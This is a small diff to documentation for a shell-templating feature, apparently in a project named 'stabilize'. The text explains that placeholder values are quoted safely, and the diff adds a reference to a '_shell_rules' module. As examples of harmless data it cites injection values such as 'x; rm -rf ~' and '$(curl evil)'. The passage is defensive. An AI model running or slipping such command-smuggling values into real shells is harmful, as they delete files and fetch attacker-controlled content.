@@ -17,7 +17,7 @@ configuration plus the outputs of upstream stages), and always safely:
   ``declare -i``, subscripts, ``read``, ...) its value must be a plain number or name.
 
 (The filling and quoting live in :mod:`stabilize.tasks._placeholders`, the reading of the
-template in :mod:`stabilize.tasks._shell_lexer`.)
+template in :mod:`stabilize.tasks._shell_lexer` and :mod:`stabilize.tasks._shell_rules`.)
 
 So a value such as ``x; rm -rf ~``, ``$(curl evil)`` or ``a[$(curl evil)]`` is only ever
 data, never a command.
